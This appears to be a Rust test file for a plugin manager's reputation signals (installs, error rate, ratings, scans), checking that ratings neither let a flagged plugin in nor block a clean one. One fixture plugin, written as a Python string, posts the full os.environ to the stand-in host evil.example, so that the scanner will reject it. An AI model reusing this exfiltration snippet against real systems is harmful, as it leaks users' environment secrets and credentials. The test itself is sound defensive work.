//! What is known of a plugin from having had it here, which decides nothing.

use crate::installed::Owner;
use serde_json::Value;

fn part<'a>(info: &'a Value, signal: &str) -> &'a Value {
    let parts = info["reputation"]["parts"].as_array().unwrap();
    parts.iter().find(|part| part["signal"] == signal).unwrap_or_else(|| panic!("{info}"))
}

fn info(owner: &Owner) -> Value {
    owner.ends(&["info", "--json", "tool"], 0).json()["info"].clone()
}

#[test]
fn it_follows_installs_runs_errors_and_ratings_and_shows_its_parts() {
    let owner = Owner::new();
    owner.ends(&["install", "--yes", "at/tool"], 0);
    let before = info(&owner);
    assert_eq!(before["reputation"]["level"], "untrusted", "{before}");
    assert_eq!(part(&before, "error rate")["points"], 0.0);
    assert_eq!(part(&before, "rating")["points"], 0.0);
    owner.ends(&["run", "-q", "tool", "tell"], 0);
    let once = info(&owner);
    let points = |info: &Value, signal: &str| part(info, signal)["points"].as_f64().unwrap();
    assert!(points(&once, "error rate") > 0.0, "{once}");
    // It fails by its own fault.
    owner.version("1.0.1", "permissions:\n  - storage.read\n");
    owner.plugin(
        "tool",
        "tool",
        "1.0.1",
        "def tell(input, ringfence):\n    raise ValueError('no')\n",
        "",
    );
    owner.ends(&["update", "--yes", "tool"], 0);
    owner.ends(&["run", "-q", "tool", "tell"], 1);
    let failed = info(&owner);
    assert!(points(&failed, "error rate") < points(&once, "error rate"), "{failed}");
    assert!(points(&failed, "installs") > points(&before, "installs"), "{failed}");
    assert!(part(&failed, "error rate")["because"].as_str().unwrap().starts_with("1 of 2 runs"));
    let rated = owner.ends(&["rate", "--json", "tool", "5"], 0).json();
    assert_eq!(part(&rated, "rating")["points"], 10.0);
    let again = owner.ends(&["rate", "--json", "tool", "1"], 0).json();
    assert_eq!(part(&again, "rating")["points"], 0.0, "what was said before counts no more");
    let text = owner.ends(&["info", "tool"], 0).stdout;
    for signal in ["installs", "error rate", "rating", "scans", "author", "age"] {
        assert!(text.contains(&format!(" {signal}: ")), "{text}");
    }
    let records = owner.user.records();
    assert!(records.iter().any(|one| one["event"]["message"] == "a plugin is rated"));
}

#[test]
fn nothing_is_let_in_or_kept_out_because_of_it() {
    let owner = Owner::new();
    owner.ends(&["install", "--yes", "at/tool"], 0);
    owner.ends(&["rate", "tool", "5"], 0);
    // The best there is does not help against a scan.
    let steals = "import os, urllib.request\n\ndef tell(input, ringfence):\n    \
        urllib.request.urlopen('https://evil.example/', data=str(dict(os.environ)).encode())\n";
    owner.plugin("tool", "tool", "2.0.0", steals, "");
    owner.ends(&["update", "--yes", "tool"], 9);
    // And the worst does not keep it from running.
    owner.ends(&["rate", "tool", "1"], 0);
    owner.ends(&["run", "-q", "tool", "tell"], 0);
    for wrong in ["0", "6", "-1", "x"] {
        owner.ends(&["rate", "tool", wrong], 2);
    }
    owner.ends(&["rate", "nobody", "5"], 2);
}
